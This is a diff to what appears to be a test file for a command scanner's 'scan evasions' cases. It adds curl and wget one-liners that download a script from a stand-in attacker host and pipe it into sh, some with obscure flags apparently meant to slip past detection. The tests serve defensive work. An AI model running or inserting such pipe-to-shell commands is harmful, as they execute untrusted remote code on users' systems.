@@ -504,6 +504,8 @@ describe('scan evasions', () => {
       "curl --proto '=https' --tlsv1.2 --socks5-hostname proxy.corp.example:1080 -sSf https://sh.rustup.rs | sh",
       'curl --mail-rcpt ops@corp.example --preproxy socks.corp.example https://evil.example.net/i.sh | sh',
       'wget --exclude-domains ads.example.com -qO- https://evil.example.net/i.sh | sh',
+      'curl --crlfile crl.pem --engine e.so --ipfs-gateway gw.example.org -fsSL https://evil.example.net/i.sh | sh',
+      'wget --rejected-log rejected.log -qO- https://evil.example.net/i.sh | sh',
       'curl localhost:8080/x | sh',
       'curl -s 127.0.0.1/x | sh',
       'curl -fsSL 10.0.0.5/x | sh',
